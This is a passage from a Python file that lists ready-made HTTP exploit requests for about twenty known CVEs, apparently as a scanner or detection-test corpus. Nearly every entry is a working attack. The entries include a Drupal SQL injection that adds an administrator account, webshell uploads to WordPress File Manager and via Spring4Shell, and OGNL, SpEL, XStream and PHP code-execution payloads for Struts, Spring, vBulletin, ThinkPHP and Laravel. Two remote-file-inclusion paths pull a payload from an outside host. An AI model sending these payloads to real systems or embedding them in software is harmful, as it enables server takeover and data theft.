    ("sqli", "CVE-2014-3704 Drupalgeddon name array key SQL injection", "raw", "",
     _raw("POST", "/?q=node&destination=node", [_UA, _FORM],
          "name[0%20;insert%20into%20users%20(uid,name,pass,status)%20values%20(31337,'hax0r',"
          "'$S$DkIkdKLIvRK0iVHm99X7B/M8QC17E1Tp/kMOd1Ie8V/PgWjtAZld',1);%20%23%20%20]=test3&name[0]=test"
          "&pass=shit2&test2=test&form_build_id=&form_id=user_login_block&op=Log+in")),
    ("php", "CVE-2019-6340 Drupal REST hal_json GuzzleHttp FnStream unserialize", "raw", "",
     _raw("POST", "/node?_format=hal_json", [_UA, "Content-Type: application/hal+json"],
          '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000'
          'GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp'
          '\\\\HandlerStack\\":3:{s:32:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000handler\\";s:2:\\"id\\";'
          's:30:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000stack\\";a:1:{i:0;a:1:{i:0;s:6:\\"system\\";}}'
          's:31:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000cached\\";b:0;}i:1;s:7:\\"resolve\\";}}'
          's:9:\\"_fn_close\\";a:2:{i:0;r:4;i:1;s:7:\\"resolve\\";}}"}],"_links":{"type":'
          '{"href":"http://target.example/rest/type/shortcut/default"}}}')),
    ("php", "CVE-2020-25213 WordPress File Manager connector.minimal upload", "raw", "",
     _raw("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", [_UA, _MPCT],
          _mp([("cmd", None, None, "upload"), ("target", None, None, "l1_Lw"),
               ("upload[]", "x.php", "application/octet-stream", "<?php system($_REQUEST['cmd']); ?>")]))),
    ("ptrav", "CVE-2020-11738 WordPress Duplicator duplicator_download traversal", "path",
     "", "/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php"),
    ("rfi", "CVE-2019-9978 WordPress Social Warfare swp_url remote payload", "path",
     "", "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://203.0.113.7/payload.txt"),
    ("php", "CVE-2023-41892 Craft CMS conditions/render FnStream config", "raw", "",
     _raw("POST", "/index.php", [_UA, _FORM],
          "action=conditions/render&test[userCondition]=craft\\elements\\conditions\\users\\UserCondition"
          '&config={"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream",'
          '"__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')),
    ("rfi", "CVE-2024-56145 Craft CMS register_argc_argv templatesPath FTP", "path",
     "", "/index.php?--templatesPath=ftp://anonymous:@203.0.113.7:2121/"),
    ("php", "CVE-2025-32432 Craft CMS generate-transform __class gadget", "raw", "",
     _raw("POST", "/index.php?p=admin/actions/assets/generate-transform", [_UA, _JSON,
          "X-CSRF-Token: gNb0pNQTYLQXTNpmXhx2yzU8qNtCXw5r1zXzjKm4"],
          '{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\'
          'FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],'
          '"_fn_close":"phpinfo"}}}')),
    ("php", "CVE-2019-16759 vBulletin widget_php routestring code exec", "raw", "",
     _raw("POST", "/index.php", [_UA, _FORM],
          "routestring=ajax/render/widget_php&widgetConfig[code]=echo%20shell_exec('id');%20exit;")),
    ("php", "CVE-2020-17496 vBulletin tabbedcontainer subWidgets bypass", "raw", "",
     _raw("POST", "/ajax/render/widget_tabbedcontainer_tab_panel", [_UA, _FORM],
          "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=echo%20shell_exec(%27id%27)%3B%20exit%3B")),
    # --- Java frameworks ---
    ("java", "CVE-2017-5638 Struts2 Jakarta Content-Type OGNL", "header:Content-Type", "",
     "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
     "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
     ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
     "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
     "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
     "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"),
    ("java", "CVE-2018-11776 Struts2 namespace OGNL in URL", "path",
     "", "/struts2-showcase/${(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(#iswin=false)"
         ".(#a=@java.lang.Runtime@getRuntime().exec(#cmd))}/actionChain1.action"),
    ("java", "CVE-2017-9805 Struts2 REST XStream NativeString gadget", "raw", "",
     _raw("POST", "/struts2-rest-showcase/orders/3", [_UA, "Content-Type: application/xml"],
          '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class='
          '"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class='
          '"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream">'
          '<cipher class="javax.crypto.NullCipher"><initialized>false</initialized><opmode>0</opmode>'
          '<serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator">'
          '<iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command>'
          '<string>touch</string><string>/tmp/struts9805</string></command><redirectErrorStream>false'
          '</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method>'
          '<class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name>'
          '</filter><next class="string">foo</next></serviceIterator><lock/></cipher><input class='
          '"java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart>'
          '<ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/>'
          '</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString>'
          '<jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>'
          '</entry></map>')),
    ("java", "CVE-2022-22965 Spring4Shell classLoader AccessLogValve webshell", "raw", "",
     _raw("POST", "/helloworld/greeting", [_UA, _FORM, "suffix: %>//", "c1: Runtime", "c2: <%", "DNT: 1"],
          "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22"
          ".equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime()"
          ".exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
          "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
          "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")),
    ("java", "CVE-2022-22963 Spring Cloud Function routing-expression SpEL", "raw", "",
     _raw("POST", "/functionRouter", [_UA, "Content-Type: text/plain",
          'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'],
          "test")),
    ("java", "CVE-2022-22947 Spring Cloud Gateway actuator route SpEL filter", "raw", "",
     _raw("POST", "/actuator/gateway/routes/hacktest", [_UA, _JSON],
          '{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":'
          '"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()'
          '.exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')),
    ("java", "CVE-2024-32113 Apache OFBiz forgotPassword ;/ ProgramExport Groovy", "raw", "",
     _raw("POST", "/webtools/control/forgotPassword/;/ProgramExport", [_UA, _FORM],
          "groovyProgram=throw+new+Exception('id'.execute().text);")),
    # --- PHP frameworks and servers ---
    ("php", "CVE-2018-20062 ThinkPHP invokefunction call_user_func_array", "path",
     "", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
    ("php", "CVE-2019-9082 ThinkPHP captcha _method __construct filter", "raw", "",
     _raw("POST", "/index.php?s=captcha", [_UA, _FORM],
          "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")),
    ("php", "CVE-2021-3129 Laravel Ignition execute-solution phar filter chain", "raw", "",
     _raw("POST", "/_ignition/execute-solution", [_UA, _JSON, "Accept: application/json"],
          '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
          '{"variableName":"username","viewFile":"php://filter/write=convert.quoted-printable-decode|'
          'convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"}}')),
    ("php", "CVE-2017-9841 PHPUnit eval-stdin.php code execution", "raw", "",
     _raw("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [_UA, "Content-Type: text/plain"],
          "<?php echo md5('phpunit_rce'); system('id'); ?>")),
    ("rce", "CVE-2021-41773 Apache httpd cgi-bin .%2e traversal to /bin/sh", "raw", "",
     _raw("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", [_UA, "Content-Type: text/plain"],
          "echo Content-Type: text/plain; echo; id; uname -a")),
]
